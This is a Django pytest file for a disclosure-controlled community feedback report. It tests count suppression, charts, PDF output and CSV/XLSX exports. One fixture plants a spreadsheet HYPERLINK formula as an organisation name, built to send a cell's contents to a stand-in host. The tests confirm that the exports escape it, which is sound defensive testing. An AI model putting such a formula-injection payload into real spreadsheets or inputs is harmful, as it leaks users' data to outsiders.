"""The intelligence report: the page, its PDF and spreadsheets, all disclosure-controlled."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from waymark.accounts.factories import make_persona, verified_login
from waymark.core.factories import OrganisationFactory
from waymark.core.file_headers import split_file_header
from waymark.core.models import Community, Theme
from waymark.core.roles import Role
from waymark.voice.charts import line_chart, nice_ceiling
from waymark.voice.factories import FeedbackItemFactory
from waymark.voice.factories_escalations import EscalationFactory
from waymark.voice.reports import ReportScope, build_report

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client):
    verified_login(client, make_persona(Role.STAFF))
    return client


@pytest.fixture
def feedback():
    """40 items about interpreting this month (20 from one community), 20 about racism, 3 about seclusion."""
    interpreting = Theme.objects.get(slug="interpreting")
    seclusion = Theme.objects.get(slug="seclusion")
    somali = Community.objects.get(name="Somali")
    today = timezone.localdate()
    for number in range(40):
        item = FeedbackItemFactory(
            received_on=today,
            consent_to_publish=number < 2,
            public_quote="Interpreters are never booked." if number == 0 else "",
        )
        item.themes.add(interpreting)
        if number < 20:
            item.communities.add(somali)
    for _ in range(20):
        FeedbackItemFactory(received_on=today).themes.add(Theme.objects.get(slug="discrimination"))
    for _ in range(3):
        FeedbackItemFactory(received_on=today, text="Kept in seclusion for days.").themes.add(seclusion)


def scope(**extra):
    today = timezone.localdate()
    return ReportScope(date_from=today - datetime.timedelta(days=90), date_to=today, **extra)


def test_report_counts_are_protected(feedback):
    report = build_report(scope())

    by_theme = {row.label: row.count for row in report.by_theme}
    assert by_theme["Access to services"].value == 40
    assert by_theme["Mental Health Act and restrictive practice"].suppressed
    # 3 could be worked out from the other themes and the total, so the next smallest is hidden too.
    assert by_theme["Experience of care"].suppressed
    assert report.total.value == 65  # 63 rounded to the nearest 5
    everyone = report.over_time[0]
    assert everyone.label == "All communities"
    assert {cell.value for row in everyone.table.cells for cell in row if not cell.suppressed} <= {0, 20, 40}
    assert any(cell.suppressed for row in everyone.table.cells for cell in row)
    assert [table.label for table in report.over_time] == ["All communities", "Somali"]


def test_report_for_a_community_and_a_theme(feedback):
    report = build_report(
        scope(community=Community.objects.get(name="Somali"), theme=Theme.objects.get(slug="access-to-services"))
    )

    assert report.total.value == 20
    assert [table.label for table in report.over_time] == ["Somali"]
    assert "Somali" in report.scope.title


def test_report_page_has_a_chart_beside_its_table(staff_client, feedback):
    response = staff_client.get(reverse("voice:report"))

    page = response.content.decode()
    assert response.status_code == 200
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in page and 'role="img"' in page
    assert "Pieces of feedback by theme and period: All communities" in page
    assert "Hidden" in page
    assert "Kept in seclusion for days." not in page  # not consented to publish
    assert "Interpreters are never booked." in page  # the consented item with edited words is quoted
    assert "(test item" not in page  # never the words as sent, even when the person consented


def test_report_form_errors_keep_what_was_typed(staff_client):
    response = staff_client.get(reverse("voice:report"), {"date_from": "2026-05-01", "date_to": "2026-04-01"})

    page = response.content.decode()
    assert "The end date must be on or after the start date." in page
    for part, value in (("day", "1"), ("month", "5"), ("year", "2026")):
        assert f'name="date_from_{part}" value="{value}"' in page
    assert response.context["report"] is None


def test_report_pdf_renders(staff_client, feedback):
    response = staff_client.get(reverse("voice:report_pdf"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_csv_export_writes_hidden_counts_as_empty_cells(staff_client, feedback):
    response = staff_client.get(reverse("voice:report_export"), {"format": "csv"})

    lines, rows = split_file_header(list(csv.reader(io.StringIO(response.content.decode()))))
    assert lines[-1] == "Disclosure-controlled"
    assert rows[0] == ["Section", "Slice", "Category", "Period", "Count", "Note"]
    theme_rows = {row[2]: row for row in rows if row[0] == "By theme"}
    assert theme_rows["Access to services"][4] == "40"
    assert theme_rows["Mental Health Act and restrictive practice"][4] == ""
    assert "hidden" in theme_rows["Mental Health Act and restrictive practice"][5]
    assert not any(row[4] == "3" for row in rows)


def test_xlsx_export_opens_with_its_notes(staff_client, feedback):
    response = staff_client.get(reverse("voice:report_export"), {"format": "xlsx"})

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Figures", "About"]
    assert workbook["Figures"]["A1"].value == "Community intelligence report"
    assert split_file_header(list(workbook["Figures"].iter_rows(values_only=True)))[1][0][0] == "Section"


PLANTED_FORMULA = '=HYPERLINK("http://example.invalid/?"&B2,"Open the full report")'


@pytest.fixture
def responder_with_a_planted_formula():
    """A responder that renamed its own organisation to a formula, escalated to this month."""
    EscalationFactory(responder=OrganisationFactory(name=PLANTED_FORMULA))


def test_csv_export_never_runs_an_organisation_name_as_a_formula(staff_client, responder_with_a_planted_formula):
    response = staff_client.get(reverse("voice:report_export"), {"format": "csv"})

    _lines, rows = split_file_header(list(csv.reader(io.StringIO(response.content.decode()))))
    slices = [row[1] for row in rows if row[0] == "Response timeliness"]
    assert slices and set(slices) == {"'" + PLANTED_FORMULA}


def test_xlsx_export_never_runs_an_organisation_name_as_a_formula(staff_client, responder_with_a_planted_formula):
    response = staff_client.get(reverse("voice:report_export"), {"format": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content))["Figures"]
    cells = [row[1] for row in sheet.iter_rows() if row[0].value == "Response timeliness"]
    assert cells and all(cell.data_type == "s" and cell.value == "'" + PLANTED_FORMULA for cell in cells)


def test_unknown_export_format_is_refused(staff_client):
    response = staff_client.get(reverse("voice:report_export"), {"format": "docx"})

    assert response.status_code == 400
    assert "Choose CSV or XLSX." in response.content.decode()


def test_line_chart_leaves_gaps_for_hidden_counts():
    chart = line_chart(["Jan", "Feb", "Mar", "Apr"], [("Interpreting", [10, None, 20, 25])])

    assert chart is not None
    (series,) = chart.series
    assert len(series.points) == 3
    assert len(series.segments) == 1  # Jan stands alone; Mar to Apr is one run
    assert line_chart(["Jan"], [("Interpreting", [None])]) is None
    assert [nice_ceiling(value) for value in (3, 6, 11, 21, 51, 101)] == [5, 10, 20, 50, 100, 200]


def test_a_repeat_report_and_pdf_reuse_their_work_and_new_feedback_shows_at_once(staff_client, feedback, monkeypatch):
    from weasyprint import HTML

    from waymark.core import disclosure

    solved, rendered = [], []
    solve, write_pdf = disclosure.linprog, HTML.write_pdf
    monkeypatch.setattr(disclosure, "linprog", lambda *args, **kwargs: solved.append(1) or solve(*args, **kwargs))
    monkeypatch.setattr(HTML, "write_pdf", lambda self, *args, **kwargs: rendered.append(1) or write_pdf(self))

    first = staff_client.get(reverse("voice:report_pdf")).content
    runs = (len(solved), len(rendered))
    assert runs[0] > 0 and runs[1] == 1
    assert staff_client.get(reverse("voice:report_pdf")).content == first
    assert (len(solved), len(rendered)) == runs

    for _ in range(10):
        FeedbackItemFactory(received_on=timezone.localdate()).themes.add(Theme.objects.get(slug="seclusion"))
    report = staff_client.get(reverse("voice:report")).context["report"]
    by_theme = {row.label: row.count for row in report.by_theme}
    assert by_theme["Mental Health Act and restrictive practice"].value == 15  # 13, no longer hidden
